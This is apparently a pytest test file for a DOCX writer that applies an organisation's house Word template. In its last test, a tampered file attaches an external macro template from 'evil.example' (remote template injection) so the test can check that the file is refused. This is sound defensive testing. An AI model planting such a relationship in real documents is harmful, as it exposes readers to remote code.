"""A house's own Word file gives styles, theme, lists, header and footer."""

from __future__ import annotations

import io
import json
import subprocess
import warnings
import zipfile
from pathlib import Path

import pytest

from briefgen.diagnostics import Sink
from briefgen.diagnostics.register import writers as codes
from briefgen.layout.page import Item, List
from briefgen.readers.docx.check import check_docx
from briefgen.readers.docx.file import Kind
from briefgen.readers.docx.read import read_docx
from briefgen.writers.docx import Options, write_docx
from briefgen.writers.docx.house import House, read_house

from .opened import Opened
from .samples import ASSETS, THEME, p, page, png, rich_page, section
from .test_other_readers import ROOT, needs_npm, pandoc_notes


@pytest.fixture(scope="module")
def made_in_word() -> bytes:
    """A file such as a house makes: python-docx's template, changed."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        docx = pytest.importorskip("docx")
    from docx.enum.style import WD_STYLE_TYPE
    from docx.shared import Mm, Pt, RGBColor

    file = docx.Document()
    file.styles["Heading 1"].font.color.rgb = RGBColor(0x80, 0x00, 0x20)
    file.styles["Heading 1"].font.size = Pt(19)
    bullet = file.styles.add_style("Summary Bullet", WD_STYLE_TYPE.PARAGRAPH)
    bullet.font.size = Pt(11)
    part = file.sections[0]
    part.page_width, part.page_height = Mm(210), Mm(297)
    part.left_margin = part.right_margin = Mm(30)
    header = part.header.paragraphs[0]
    header.text = "The house's own header"
    header.add_run().add_picture(io.BytesIO(png()))
    part.footer.paragraphs[0].text = "The house's own footer"
    out = io.BytesIO()
    file.save(out)
    return out.getvalue()


@pytest.fixture(scope="module")
def house(made_in_word: bytes) -> House:
    sink = Sink()
    found = read_house(made_in_word, sink, "house.docx")
    assert list(sink) == []
    assert found is not None
    return found


@pytest.fixture(scope="module")
def written(house: House) -> bytes:
    sink = Sink()
    data = write_docx(rich_page(), THEME, ASSETS, Options(house=house), sink)
    assert [d.code for d in sink] == [codes.HOUSE_STYLE_MISSING]
    return data


def test_styles_are_taken_by_name_and_the_rest_is_the_themes(written: bytes) -> None:
    opened = Opened(written)
    part = "word/styles.xml"
    heading = '//w:style[@w:styleId="Heading1"]'
    assert opened.values(f"{heading}/w:name/@w:val", part) == ["heading 1"]
    assert opened.values(f"{heading}/w:rPr/w:color/@w:val", part) == ["800020"]
    bullet = '//w:style[@w:styleId="SummaryBullet"]'
    assert opened.values(f"{bullet}/w:rPr/w:sz/@w:val", part) == ["22"]
    assert opened.values('//w:style[@w:styleId="PullQuote"]/w:name/@w:val', part) == ["Pull Quote"]
    ids = opened.values("//w:style/@w:styleId", part)
    assert len(ids) == len(set(ids))


def test_what_the_house_lacks_is_told_by_name(house: House) -> None:
    sink = Sink()
    write_docx(page(p("x", "Text.")), THEME, ASSETS, Options(house=house), sink)
    [told] = sink
    assert '"Pull Quote"' in told.message
    assert '"heading 1"' not in told.message
    assert told.path == "house.docx"


def test_the_lists_of_the_house_mark_the_items(written: bytes) -> None:
    """List Bullet has a list in the house's file; the nested one counts by the house's, too."""
    opened = Opened(written)
    item = '//w:p[.//w:bookmarkStart/@w:name="_bg_item_1"]/w:pPr/w:numPr/w:numId/@w:val'
    [number] = opened.values(item)
    path = f'//w:num[@w:numId="{number}"]/w:abstractNumId/@w:val'
    [abstract] = opened.values(path, "word/numbering.xml")
    assert int(abstract) >= 1000


def test_nested_bullets_stay_bullets_where_the_house_counts_them(made_in_word: bytes) -> None:
    """LibreOffice saves every list with nine levels, of which it counts those that were not set."""
    with zipfile.ZipFile(io.BytesIO(made_in_word)) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    counted = (
        '<w:lvl w:ilvl="1"><w:start w:val="1"/><w:numFmt w:val="decimal"/>'
        '<w:lvlText w:val="%2."/></w:lvl></w:abstractNum>'
    )
    lists = entries["word/numbering.xml"].decode()
    assert 'w:ilvl="1"' not in lists
    entries["word/numbering.xml"] = lists.replace("</w:abstractNum>", counted).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    sink = Sink()
    house = read_house(out.getvalue(), sink, "house.docx")
    inner = List("in", False, 1, (Item("", (p("inner", "In."),)),))
    outer = List("out", False, 1, (Item("", (p("outer", "Out."), inner)),))
    steps = List("steps", True, 1, (Item("", (p("step", "Step."),)),))
    nested = List("mixed", False, 1, (Item("", (p("mixed-1", "Mixed."), steps)),))
    made = page(section("s", "S", outer, nested))
    file = read_docx(write_docx(made, THEME, ASSETS, Options(house=house), sink), sink)
    assert file is not None
    assert {b.id: (b.level, b.ordered) for b in file.blocks if b.kind is Kind.ITEM} == {
        "outer": (1, False),
        "inner": (2, False),
        "mixed-1": (1, False),
        "step": (2, True),
    }


def test_the_page_header_and_footer_are_the_houses(written: bytes) -> None:
    opened = Opened(written)
    sizes = opened.values("//w:body/w:sectPr/w:pgMar/@w:left")
    assert sizes == ["1701"]
    assert "word/house-header-default.xml" in opened.names
    assert opened.words("//w:p", "word/house-header-default.xml") == ["The house's own header"]
    assert opened.find("//w:titlePg") == []
    assert any(name.startswith("word/media/house-") for name in opened.names)


def test_the_language_stays_the_briefs(house: House) -> None:
    made = page(p("x", "متن"), language="ur", direction="rtl")
    opened = Opened(write_docx(made, THEME, ASSETS, Options(house=house), Sink()))
    assert opened.values("//w:rPrDefault//w:lang/@w:bidi", "word/styles.xml") == ["ur"]
    assert len(opened.find("//w:pPrDefault/w:pPr/w:bidi", "word/styles.xml")) == 1


def test_a_brief_in_the_houses_dress_breaks_no_rule(written: bytes) -> None:
    sink = Sink()
    assert check_docx(written, sink)
    assert {d.code for d in sink} <= {codes.WORD_ALT_TEXT, codes.WORD_CONTRAST}
    assert [d.message for d in sink if d.code is codes.WORD_ALT_TEXT] == [
        'the picture "Picture 1" has no alternative text'  # the house's own, in its header
    ]


@needs_npm
def test_the_open_xml_sdk_finds_no_fault_of_ours(written: bytes, tmp_path: Path) -> None:
    path = tmp_path / "brief.docx"
    path.write_bytes(written)
    ran = subprocess.run(
        [str(ROOT / "tools" / "ooxml-validator"), str(path)],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    if not ran.stdout:
        pytest.skip(f"the validator cannot be run: {ran.stderr[-300:]}")
    assert json.loads(ran.stdout)["errors"] == []


def test_the_notes_are_as_they_were(written: bytes, tmp_path: Path) -> None:
    path = tmp_path / "brief.docx"
    path.write_bytes(written)
    assert pandoc_notes(path)[2] == "Ibid."


def test_the_bytes_are_the_same_each_time(house: House, written: bytes) -> None:
    again = write_docx(rich_page(), THEME, ASSETS, Options(house=house), Sink())
    assert again == written


def test_a_brief_without_lists_still_has_the_lists_that_the_styles_name(house: House) -> None:
    sink = Sink()
    data = write_docx(page(section("s", "S", p("x", "Text."))), THEME, ASSETS,
                      Options(house=house), sink)  # fmt: skip
    assert check_docx(data, sink)
    assert codes.WORD_LIST_UNKNOWN not in [d.code for d in sink]


def test_a_house_file_that_reaches_outside_is_refused(made_in_word: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(made_in_word)) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    rels = "word/_rels/settings.xml.rels"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    entries[rels] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{kind}" Target="https://evil.example/a.dotm" '
        'TargetMode="External"/></Relationships>'
    ).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    sink = Sink()
    assert read_house(out.getvalue(), sink, "house.docx") is None
    assert [d.code for d in sink] == [codes.UNSAFE_WORD_FILE]
    assert "an attached template" in next(iter(sink)).message
    assert read_house(b"%PDF-", sink, "house.docx") is None
